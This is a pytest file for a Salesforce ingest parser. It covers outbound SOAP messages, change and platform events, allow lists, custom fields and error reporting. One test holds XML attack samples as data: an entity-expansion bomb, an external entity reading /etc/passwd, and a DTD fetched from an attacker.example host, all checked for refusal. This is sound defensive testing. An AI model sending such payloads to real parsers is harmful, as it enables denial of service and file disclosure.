"""Salesforce outbound messages (SOAP) and change / platform events -> events."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from revops.events.catalogue import (
    AccountChangedEvent,
    ActivityLoggedEvent,
    LeadConvertedEvent,
    OpportunityChangedEvent,
    PersonChangedEvent,
)
from revops.ingest.domain.errors import MalformedEvent, SenderNotAllowed, UnparsableBody
from revops.ingest.domain.salesforce import (
    CustomFields,
    org_allowed,
    parse_outbound,
    parse_stream_events,
    source_allowed,
)

FORMATS = Path(__file__).parent.parent / "formats"
SAMPLE = (FORMATS / "sfdc_outbound_message_opportunity.xml").read_bytes()
CDC = json.loads((FORMATS / "sfdc_cdc_opportunity.json").read_text())
NOW = datetime(2024, 6, 1, tzinfo=UTC)
ORG = "00D5g000004ExAmEAK"
CUSTOM = CustomFields()
SOBJECT_NS = "urn:sobject.enterprise.soap.sforce.com"


def outbound(body: bytes, orgs: tuple[str, ...] = (ORG[:15],), limit: int = 100) -> list[Any]:
    return parse_outbound(
        body, allowed_orgs=orgs, custom=CUSTOM, received_at=NOW, max_notifications=limit
    ).events


def message(*notifications: tuple[str, str, Mapping[str, str | None]], org: str = ORG) -> bytes:
    """An outbound message with (notification id, sObject type, fields) notifications."""
    parts = []
    for notification_id, object_type, fields in notifications:
        values = "".join(
            f'<sf:{k} xsi:nil="true"/>' if v is None else f"<sf:{k}>{v}</sf:{k}>"
            for k, v in fields.items()
        )
        parts.append(
            f"<Notification><Id>{notification_id}</Id>"
            f'<sObject xsi:type="sf:{object_type}" xmlns:sf="{SOBJECT_NS}">'
            f"{values}</sObject></Notification>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org}</OrganizationId><ActionId>04k5g0000008AbCAAU</ActionId>"
        + "".join(parts)
        + "</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def test_the_sample_outbound_message() -> None:
    first, second = outbound(SAMPLE)
    assert isinstance(first, OpportunityChangedEvent)
    assert first.id == "salesforce:04l5g00000Dq1AbAAJ"
    assert second.id == "salesforce:04l5g00000Dq1AcAAJ"
    assert first.key == "0015g00000AbCdEAAV"  # the account
    p = first.payload
    assert p.opportunity_id == "0065g00000XyZ12AAF"
    assert (p.stage, p.amount, p.close_date) == (
        "Closed Won",
        Decimal("120000.0"),
        date(2024, 6, 28),
    )
    assert (p.is_closed, p.is_won, p.lead_source, p.opportunity_type) == (
        True,
        True,
        "Web",
        "New Customer",
    )
    assert p.source_ref.tenant_id == ORG
    # No LastModifiedDate/SystemModstamp were sent: the change time is CreatedDate.
    assert first.occurred_at == p.created_at == datetime(2024, 4, 2, 15, 21, 9, tzinfo=UTC)
    assert second.payload.amount == Decimal("45000.0")


def test_organisation_allow_list_compares_15_characters() -> None:
    assert org_allowed(ORG, [ORG[:15]]) and org_allowed(ORG[:15], [ORG])
    assert not org_allowed(ORG, ["00D5g000004ExAn"])
    assert not org_allowed(ORG.lower(), [ORG])  # Salesforce ids are case-sensitive
    assert len(outbound(SAMPLE, orgs=(ORG,))) == 2
    with pytest.raises(SenderNotAllowed, match="00D5g000004ExAm"):
        outbound(SAMPLE, orgs=("00D000000000001",))
    with pytest.raises(SenderNotAllowed):
        outbound(SAMPLE, orgs=())


def test_source_networks() -> None:
    assert source_allowed("1.2.3.4", [])
    assert source_allowed("13.108.1.2", ["13.108.0.0/14"])
    assert not source_allowed("13.112.0.1", ["13.108.0.0/14"])
    assert not source_allowed(None, ["13.108.0.0/14"])


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&lol3;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<notifications xmlns="http://soap.sforce.com/2005/09/outbound">
<OrganizationId>&xxe;</OrganizationId></notifications></soapenv:Body></soapenv:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<notifications xmlns="http://soap.sforce.com/2005/09/outbound"/>"""


@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_xml_bombs_and_external_entities_refused(bomb: bytes) -> None:
    with pytest.raises(UnparsableBody, match="forbidden XML"):
        outbound(bomb)


def test_not_xml_and_not_a_message() -> None:
    with pytest.raises(UnparsableBody, match="not well-formed"):
        outbound(b"<oops")
    with pytest.raises(MalformedEvent, match="notifications"):
        outbound(b"<a/>")


def test_at_most_100_notifications() -> None:
    notes = [(f"04l{i:015d}", "Task", {"Id": f"00T{i:015d}"}) for i in range(101)]
    with pytest.raises(MalformedEvent, match="at most 100"):
        outbound(message(*notes))
    assert len(outbound(message(*notes[:100]))) == 100


def test_lead_with_conversion_and_custom_fields() -> None:
    lead = {
        "Id": "00Q5g00000AAAAAAA1",
        "Email": "Lee@Example.com",
        "FirstName": "Lee",
        "Company": "Example",
        "Country": "DE",
        "LeadSource": "Web",
        "Status": "Converted",
        "OwnerId": "0055g00000Ab1CdAAJ",
        "CreatedDate": "2024-05-01T10:00:00.000Z",
        "LastModifiedDate": "2024-05-20T12:30:00.000Z",
        "IsConverted": "true",
        "ConvertedAccountId": "0015g00000AbCdEAAV",
        "ConvertedContactId": "0035g00000AbCdEAAV",
        "ConvertedOpportunityId": None,
        "ConvertedDate": "2024-05-20",
        "Is_Consultant__c": "false",
        "Region__c": "EMEA",
    }
    person, conversion = outbound(message(("04l000000000000001", "Lead", lead)))
    assert isinstance(person, PersonChangedEvent) and isinstance(conversion, LeadConvertedEvent)
    p = person.payload
    assert (p.person_type, p.change, p.email, p.status) == (
        "lead",
        "updated",
        "lee@example.com",
        "Converted",
    )
    assert (p.is_consultant, p.region) == (False, "EMEA")
    assert p.created_at == datetime(2024, 5, 1, 10, tzinfo=UTC)
    assert person.occurred_at == datetime(2024, 5, 20, 12, 30, tzinfo=UTC)  # LastModifiedDate
    c = conversion.payload
    assert (c.lead_id, c.account_id, c.contact_id, c.opportunity_id) == (
        "00Q5g00000AAAAAAA1",
        "0015g00000AbCdEAAV",
        "0035g00000AbCdEAAV",
        None,
    )
    assert conversion.key == "0015g00000AbCdEAAV"
    assert conversion.id == "salesforce:04l000000000000001:converted"


def test_configured_custom_field_names() -> None:
    custom = CustomFields(
        consultant="Consultant__c", region="Sales_Region__c", contract_end="Renewal_Date__c"
    )
    body = message(
        (
            "04l000000000000001",
            "Contact",
            {"Id": "0035g00000AbCdEAAV", "Consultant__c": "1", "Sales_Region__c": "APAC"},
        ),
        (
            "04l000000000000002",
            "Opportunity",
            {"Id": "0065g00000XyZ12AAF", "Renewal_Date__c": "2025-06-30"},
        ),
    )
    events: list[Any] = parse_outbound(
        body, allowed_orgs=[ORG], custom=custom, received_at=NOW
    ).events
    contact, opportunity = events
    assert (contact.payload.is_consultant, contact.payload.region) == (True, "APAC")
    assert opportunity.payload.contract_end_date == date(2025, 6, 30)


def test_change_time_rule() -> None:
    created = "2024-05-01T10:00:00.000Z"
    cases = [
        (
            {
                "LastModifiedDate": "2024-05-03T00:00:00.000Z",
                "SystemModstamp": "2024-05-04T00:00:00.000Z",
                "CreatedDate": created,
            },
            datetime(2024, 5, 3, tzinfo=UTC),
            "updated",
        ),
        (
            {"SystemModstamp": "2024-05-04T00:00:00.000Z", "CreatedDate": created},
            datetime(2024, 5, 4, tzinfo=UTC),
            "updated",
        ),
        ({"CreatedDate": created}, datetime(2024, 5, 1, 10, tzinfo=UTC), "created"),
        ({}, NOW, "updated"),
    ]
    for fields, expected, change in cases:
        [event] = outbound(
            message(("04l000000000000001", "Contact", {"Id": "0035g00000AbCdEAAV", **fields}))
        )
        assert event.occurred_at == expected
        assert event.payload.change == change


def test_account_domains_region_owner() -> None:
    events = outbound(
        message(
            (
                "04l000000000000001",
                "Account",
                {
                    "Id": "0015g00000AbCdEAAV",
                    "Name": "Example",
                    "Website": "https://www.Example.COM/about",
                    "BillingCountry": "Germany",
                    "OwnerId": "0055g00000Ab1CdAAJ",
                    "Region__c": "EMEA",
                },
            ),
            ("04l000000000000002", "Account", {"Id": "0015g00000AbCdEAAW", "Website": "n/a"}),
            ("04l000000000000003", "Account", {"Id": "0015g00000AbCdEAAX", "Name": "No site"}),
        )
    )
    first, junk, none = (e.payload for e in events)
    assert isinstance(events[0], AccountChangedEvent)
    assert first.domains == ["example.com"]
    assert (first.country, first.owner_id, first.region) == (
        "Germany",
        "0055g00000Ab1CdAAJ",
        "EMEA",
    )
    assert junk.domains == [] and junk.website == "n/a"  # a CRM typo does not block the message
    assert none.domains is None  # Website not sent: not known, not "no domains"


def test_tasks_and_events_are_touches_at_their_creation() -> None:
    task, meeting, dated = outbound(
        message(
            (
                "04l000000000000001",
                "Task",
                {
                    "Id": "00T5g00000AAAAAAA1",
                    "TaskSubtype": "Call",
                    "WhoId": "00Q5g00000AAAAAAA1",
                    "WhatId": "0015g00000AbCdEAAV",
                    "OwnerId": "0055g00000Ab1CdAAJ",
                    "CreatedDate": "2024-05-02T09:00:00.000Z",
                    "ActivityDate": "2024-05-10",
                    "LastModifiedDate": "2024-05-30T00:00:00.000Z",
                },
            ),
            (
                "04l000000000000002",
                "Event",
                {
                    "Id": "00U5g00000AAAAAAA1",
                    "WhoId": "0035g00000AbCdEAAV",
                    "CreatedDate": "2024-05-03T09:00:00.000Z",
                },
            ),
            (
                "04l000000000000003",
                "Task",
                {"Id": "00T5g00000AAAAAAA2", "Type": "Email", "ActivityDate": "2024-05-10"},
            ),
        )
    )
    assert isinstance(task, ActivityLoggedEvent)
    assert task.payload.kind == "call" and task.payload.lead_id == "00Q5g00000AAAAAAA1"
    assert task.payload.account_id == "0015g00000AbCdEAAV" and task.key == "0015g00000AbCdEAAV"
    assert task.payload.rep_id == "0055g00000Ab1CdAAJ"
    assert task.occurred_at == datetime(2024, 5, 2, 9, tzinfo=UTC)  # CreatedDate, not modified
    assert meeting.payload.kind == "meeting" and meeting.payload.contact_id == "0035g00000AbCdEAAV"
    assert dated.payload.kind == "email"
    assert dated.occurred_at == datetime(2024, 5, 10, tzinfo=UTC)  # ActivityDate


@pytest.mark.parametrize(
    ("object_type", "fields", "field"),
    [
        ("Opportunity", {"Id": "0065g00000XyZ12AAF", "Amount": "lots"}, "Amount"),
        ("Opportunity", {"Id": "0065g00000XyZ12AAF", "CloseDate": "28/06/2024"}, "CloseDate"),
        ("Lead", {"Id": "00Q5g00000AAAAAAA1", "Email": "nope"}, "Email"),
        (
            "Contact",
            {"Id": "0035g00000AbCdEAAV", "LastModifiedDate": "yesterday"},
            "LastModifiedDate",
        ),
        ("Contact", {"Email": "a@b.co"}, "Id"),
        ("Case", {"Id": "5005g00000AAAAAAA1"}, "sObject type"),
    ],
)
def test_a_bad_notification_names_field_and_index(
    object_type: str, fields: dict[str, str], field: str
) -> None:
    good = ("04l000000000000001", "Task", {"Id": "00T5g00000AAAAAAA1"})
    with pytest.raises(MalformedEvent) as caught:
        outbound(message(good, ("04l000000000000002", object_type, fields)))
    assert (caught.value.field, caught.value.index) == (field, 1)


# --- change and platform events ---------------------------------------------------------------


def stream(body: Any) -> list[Any]:
    return parse_stream_events(body, custom=CUSTOM, received_at=NOW)


def test_the_sample_change_events() -> None:
    created, updated = stream(CDC)
    assert created.payload.change == "created" and updated.payload.change == "updated"
    assert created.occurred_at == datetime.fromtimestamp(1712071269, UTC)  # commitTimestamp
    assert updated.occurred_at == datetime.fromtimestamp(1719590400, UTC)
    assert created.payload.stage == "Prospecting" and updated.payload.stage == "Closed Won"
    assert updated.payload.is_won is True and updated.payload.amount is None  # not sent
    assert "StageName" in updated.payload.changed_fields
    assert created.key == "0015g00000AbCdEAAV"
    assert [e.id for e in stream(CDC)] == [created.id, updated.id]  # stable
    assert created.id != updated.id
    assert len(stream(CDC[0])) == 1  # one message, not an array


def cdc(entity: str, change: str, fields: dict[str, Any], record_ids: list[str]) -> dict[str, Any]:
    header = {
        "entityName": entity,
        "recordIds": record_ids,
        "changeType": change,
        "transactionKey": "tx-1",
        "sequenceNumber": 1,
        "commitTimestamp": 1716200000000,
        "changedFields": list(fields),
    }
    return {
        "data": {"payload": {"ChangeEventHeader": header, **fields}, "event": {"replayId": 5}},
        "channel": f"/data/{entity}ChangeEvent",
    }


def test_lead_conversion_change_event() -> None:
    fields = {
        "Status": "Converted",
        "IsConverted": True,
        "ConvertedDate": "2024-05-20",
        "ConvertedAccountId": "0015g00000AbCdEAAV",
        "ConvertedContactId": "0035g00000AbCdEAAV",
        "ConvertedOpportunityId": "0065g00000XyZ12AAF",
    }
    person, conversion = stream(cdc("Lead", "UPDATE", fields, ["00Q5g00000AAAAAAA1"]))
    assert person.payload.status == "Converted"
    assert isinstance(conversion, LeadConvertedEvent)
    assert conversion.payload.opportunity_id == "0065g00000XyZ12AAF"
    assert conversion.occurred_at == datetime.fromtimestamp(1716200000, UTC)


def test_several_records_gaps_and_wildcards() -> None:
    events = stream(cdc("Account", "UPDATE", {"Website": "acme.io"}, ["001A", "001B", "001*"]))
    assert [e.payload.account_id for e in events] == ["001A", "001B"]
    assert events[0].payload.domains == ["acme.io"]
    assert len({e.id for e in events}) == 2
    assert stream(cdc("Account", "GAP_UPDATE", {}, ["001A"])) == []


def test_platform_event_lead_conversion() -> None:
    pe = {
        "data": {
            "schema": "x",
            "payload": {
                "CreatedDate": "2024-05-20T10:00:00.000Z",
                "LeadId__c": "00Q5g00000AAAAAAA1",
                "ConvertedAccountId__c": "0015g00000AbCdEAAV",
            },
            "event": {"EventUuid": "2ec0e371-1", "replayId": 2},
        },
        "channel": "/event/Lead_Converted__e",
    }
    [conversion] = stream(pe)
    assert conversion.payload.lead_id == "00Q5g00000AAAAAAA1"
    assert conversion.occurred_at == datetime(2024, 5, 20, 10, tzinfo=UTC)
    other = {
        "data": {"payload": {"Printer_Model__c": "XZO-5"}, "event": {"replayId": 2}},
        "channel": "/event/Low_Ink__e",
    }
    assert stream(other) == []


@pytest.mark.parametrize(
    ("body", "field", "index"),
    [
        ([CDC[0], {"data": {"payload": "x"}}], "data.payload", 1),
        ([cdc("Opportunity", "UPDATE", {"Amount": "x"}, ["006A"])], "Amount", 0),
        (
            [
                {
                    **CDC[0],
                    "data": {
                        **CDC[0]["data"],
                        "payload": {
                            **CDC[0]["data"]["payload"],
                            "ChangeEventHeader": {
                                **CDC[0]["data"]["payload"]["ChangeEventHeader"],
                                "changedFields": "0x65",
                            },
                        },
                    },
                }
            ],
            "ChangeEventHeader.changedFields",
            0,
        ),
        ([CDC[0], 3], "message", 1),
    ],
)
def test_bad_stream_events_name_field_and_index(body: Any, field: str, index: int) -> None:
    with pytest.raises(MalformedEvent) as caught:
        stream(body)
    assert (caught.value.field, caught.value.index) == (field, index)
